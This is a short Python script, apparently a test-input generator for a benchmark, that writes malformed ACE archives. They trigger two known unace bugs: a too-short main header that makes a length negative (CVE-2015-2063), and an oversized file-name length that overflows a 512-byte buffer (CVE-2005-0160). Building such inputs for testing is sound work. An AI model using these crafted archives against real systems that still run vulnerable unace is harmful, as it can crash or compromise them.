"""ACE archives for benches/real-bugs.sh's unace cases.
    python3 mkace.py short-header OUT.ace   a main header of 10 bytes, shorter than its fields
                                            (CVE-2015-2063: the rest's length goes below zero)
    python3 mkace.py long-name OUT.ace N    a main header and a file header whose name claims
                                            N bytes (CVE-2005-0160: copied into char[512])
A header is its CRC (the low 16 bits of a CRC-32 with no final inversion), its size, and then
its fields: type, flags, and for a file PSIZE (the data's size), SIZE, FTIME, ATTR, CRC32, TECH
(4 bytes), RESERVED, FNAME_SIZE and the name."""
import struct
import sys
import zlib


def header(body):
    return struct.pack("<HH", ~zlib.crc32(body) & 0xFFFF, len(body)) + body


main_fields = struct.pack("<BH", 0, 0) + b"**ACE**"
if sys.argv[1] == "short-header":
    # Read while searching for the archive, with errors not reported: its CRC is not checked.
    data = struct.pack("<HHBH", 0, 10, 0, 0) + b"**ACE**" + bytes(64)
else:
    main = main_fields + struct.pack("<BBBBIHHIB", 20, 20, 2, 0, 0, 0, 0, 0, 0)
    name = b"a" * 100
    file = struct.pack("<BHIIIIIBBHHH", 1, 1, 0, 0, 0, 0x20, 0, 0, 0, 0, 0, int(sys.argv[3])) + name
    data = header(main) + header(file)
with open(sys.argv[2], "wb") as f:
    f.write(data)
